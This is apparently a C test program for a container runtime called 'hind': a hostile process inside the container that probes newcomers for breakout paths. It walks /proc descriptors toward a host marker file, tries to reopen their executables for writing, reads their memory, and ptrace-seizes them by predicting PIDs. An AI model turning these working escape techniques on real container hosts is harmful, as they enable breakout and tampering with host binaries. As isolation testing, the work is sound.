/* A hostile process of a container, which watches who comes in: a static program that is copied into the root file system.
 *
 *	spy look MARKER PID  looks into every newcomer called hind by /proc/PID/{fd,cwd,root}, and whether MARKER, a file of
 *	                     the host by its absolute path, can be reached from there, or by the host's process PID
 *	spy overwrite        holds the executable of every newcomer, and tries to open it for writing
 *	spy trace            tries to read their memory: for that the kernel asks what it asks for ptrace(2), and it disturbs nobody
 *	spy seize MARKER PID attaches to every newcomer by ptrace(2), and from call to call until its execve holds its
 *	                     capabilities against its own, and looks for MARKER and PID as "look" does, and for the word
 *	                     MARKER in its environment
 *
 * Until /tmp/stop is there; then prints what it has met, a line each: "met N" newcomers, "looked N" descriptors seen,
 * "held N" executables open, "traced N" who let themselves be read, "seized N" who were attached to while they were hind,
 * "stops N" of theirs, and "escape ..." or "overwritten ..." for each success. */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

#define FDS 40
#define HELD 256

static long met, looked, traced, n_held, seized, stops;
static int held[HELD];
static const char *marker;
static char by_process[64];

/* The beginning of /proc/PID/file as a text; false where nothing is to be read. */
static bool read_text(const char *pid, const char *file, char *text, size_t size)
{
	char path[300];
	int fd;
	ssize_t n;

	snprintf(path, sizeof path, "/proc/%s/%s", pid, file);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	n = fd < 0 ? -1 : read(fd, text, size - 1);
	if (fd >= 0)
		close(fd);
	text[n > 0 ? n : 0] = 0;
	return n > 0;
}

/* The name changes with execve, to the program's. An older kernel calls what was executed by its descriptor after that's
 * number. */
static bool is_hind(const char *pid)
{
	char comm[32];

	return read_text(pid, "comm", comm, sizeof comm) &&
	       (strncmp(comm, "hind", 4) == 0 || comm[strspn(comm, "0123456789\n")] == 0);
}

/* In the middle of execve(2) it has its old name still, but the program's descriptors and rights; and where nothing can be
 * read any more, it was that program, which has ended. */
static bool is_still_hind(const char *pid)
{
	char path[300], exe[4096] = "";

	snprintf(path, sizeof path, "/proc/%s/exe", pid);
	return is_hind(pid) && readlink(path, exe, sizeof exe - 1) > 0 && strstr(exe, "hind");
}

static void reach(const char *path, const char *how)
{
	char way[4096], link[256] = "";
	struct stat st;
	ssize_t n;

	snprintf(way, sizeof way, "%s%s%s", path, how, marker);
	if (stat(way, &st) < 0)
		return;
	n = readlink(path, link, sizeof link - 1);
	printf("escape by %s, %s\n", way, n > 0 ? link : "?");
}

static void look_at(const char *pid, const char *path)
{
	char link[256];

	if (readlink(path, link, sizeof link) < 0 || !is_still_hind(pid))
		return;
	looked++;
	reach(path, "");
	reach(path, "/../../../../../../../../../..");
	reach(path, by_process);
}

static void look(const char *pid)
{
	char path[300];

	for (int fd = 3; fd < FDS; fd++) {
		snprintf(path, sizeof path, "/proc/%s/fd/%d", pid, fd);
		look_at(pid, path);
	}
	snprintf(path, sizeof path, "/proc/%s/cwd", pid);
	look_at(pid, path);
	snprintf(path, sizeof path, "/proc/%s/root", pid);
	look_at(pid, path);
}

/* What was opened, whatever the process executes by now: the container's own programs are no prey. */
static bool is_hinds_file(int fd)
{
	char path[300], link[4096] = "";

	snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
	return readlink(path, link, sizeof link - 1) > 0 && strstr(link, "hind");
}

static void overwrite(const char *pid)
{
	char path[300];
	int fd;

	snprintf(path, sizeof path, "/proc/%s/exe", pid);
	fd = n_held < HELD ? open(path, O_RDONLY | O_CLOEXEC) : -1;
	if (fd >= 0 && is_hinds_file(fd))
		held[n_held++] = fd;
	else if (fd >= 0)
		close(fd);
	for (long i = 0; i < n_held; i++) {
		int again;

		snprintf(path, sizeof path, "/proc/self/fd/%d", held[i]);
		again = open(path, O_WRONLY | O_CLOEXEC);
		if (again < 0)
			continue;
		printf("overwritten: %zd bytes\n", write(again, "#!/bin/false\n", 13));
		close(again);
	}
}

static void trace(const char *pid)
{
	char byte;
	struct iovec ours = { &byte, 1 }, theirs = { (void *)4096, 1 };
	ssize_t n = process_vm_readv(atoi(pid), &ours, 1, &theirs, 1, 0);

	/* EFAULT: nothing is there, but we might have read it. */
	if ((n >= 0 || errno == EFAULT) && is_still_hind(pid))
		traced++;
}

/* A line of /proc/PID/status, "CapPrm:" or another, as a number. */
static unsigned long long status_of(const char *pid, const char *key)
{
	char text[4096], *line;

	line = read_text(pid, "status", text, sizeof text) ? strstr(text, key) : NULL;
	return line ? strtoull(line + strlen(key), NULL, 16) : 0;
}

static void read_environment(const char *pid)
{
	char path[300], text[65536];
	int fd;
	ssize_t n;

	snprintf(path, sizeof path, "/proc/%s/environ", pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	n = fd < 0 ? -1 : read(fd, text, sizeof text);
	if (fd >= 0)
		close(fd);
	if (n > 0 && memmem(text, n, marker, strlen(marker)))
		printf("escape by /proc/%s/environ\n", pid);
}

/* It is stopped: what it holds now, whoever has attached to it holds. */
static void examine(const char *pid)
{
	static const char *const sets[] = { "CapPrm:", "CapEff:", "CapBnd:" };

	stops++;
	for (size_t i = 0; i < sizeof sets / sizeof *sets; i++) {
		unsigned long long beyond = status_of(pid, sets[i]) & ~status_of("self", "CapBnd:");

		if (beyond)
			printf("escape by %s of a newcomer, %llx beyond ours\n", sets[i], beyond);
	}
	if (status_of(pid, "Seccomp:") < status_of("self", "Seccomp:"))
		printf("escape by no filter of a newcomer\n");
	look(pid);
	read_environment(pid);
}

/* From call to call: nothing that it does on the way is missed. */
static void follow(pid_t pid)
{
	bool counted = false;
	int status, sig;
	char name[16];

	snprintf(name, sizeof name, "%d", (int)pid);
	ptrace(PTRACE_INTERRUPT, pid, 0, 0);
	while (waitpid(pid, &status, __WALL) == pid && WIFSTOPPED(status)) {
		if (status >> 16 == PTRACE_EVENT_EXEC || !is_still_hind(name)) {
			ptrace(PTRACE_DETACH, pid, 0, 0);
			return;
		}
		if (!counted)
			seized++;
		counted = true;
		examine(name);
		sig = status >> 16 || WSTOPSIG(status) == (SIGTRAP | 0x80) ? 0 : WSTOPSIG(status);
		ptrace(PTRACE_SYSCALL, pid, 0, (void *)(long)sig);
	}
}

/* proc(5): the last field is the number that was given out last. */
static pid_t last_number(void)
{
	char text[128] = "", *last;
	int fd = open("/proc/loadavg", O_RDONLY | O_CLOEXEC);

	if (fd >= 0 && read(fd, text, sizeof text - 1) < 0)
		return 0;
	close(fd);
	last = strrchr(text, ' ');
	return last ? atoi(last) : 0;
}

/* Numbers are given out in order: the next newcomer's is known before it is born. Some have come and gone while we did not
 * run. */
static void seize(void)
{
	static pid_t next;
	static long rounds;

	if (rounds++ % 100 == 0 && last_number() >= next)
		next = last_number() + (rounds > 1 ? 0 : 1);
	for (pid_t pid = next, end = pid + 4; pid < end; pid++) {
		if (ptrace(PTRACE_SEIZE, pid, 0, (void *)(long)(PTRACE_O_TRACESYSGOOD | PTRACE_O_TRACEEXEC)) < 0) {
			if (errno == EPERM)
				next = pid + 1; /* it is there, and not for us */
			continue;
		}
		met++;
		next = pid + 1;
		follow(pid);
		return;
	}
}

static void round_through(DIR *proc, void (*what)(const char *))
{
	rewinddir(proc);
	for (struct dirent *d; (d = readdir(proc));)
		if (*d->d_name >= '1' && *d->d_name <= '9' && is_hind(d->d_name)) {
			met++;
			what(d->d_name);
		}
}

int main(int argc, char **argv)
{
	const char *name = argc > 1 ? argv[1] : "";
	DIR *proc = opendir("/proc");

	marker = argc > 2 ? argv[2] : "/no-marker";
	snprintf(by_process, sizeof by_process, "/%s/root", argc > 3 ? argv[3] : "1");
	if (!proc)
		return 1;
	puts("ready");
	fflush(stdout);
	if (!strcmp(name, "seize"))
		for (long i = 1; i % 1000 || access("/tmp/stop", F_OK) < 0; i++)
			seize();
	while (access("/tmp/stop", F_OK) < 0)
		round_through(proc, !strcmp(name, "look") ? look : !strcmp(name, "overwrite") ? overwrite : trace);
	for (int i = 0; !strcmp(name, "overwrite") && i < 3; i++) {
		overwrite("0"); /* whoever ran it has ended by now */
		usleep(100000);
	}
	printf("met %ld\nlooked %ld\nheld %ld\ntraced %ld\nseized %ld\nstops %ld\n", met, looked, n_held, traced,
		seized, stops);
	return 0;
}
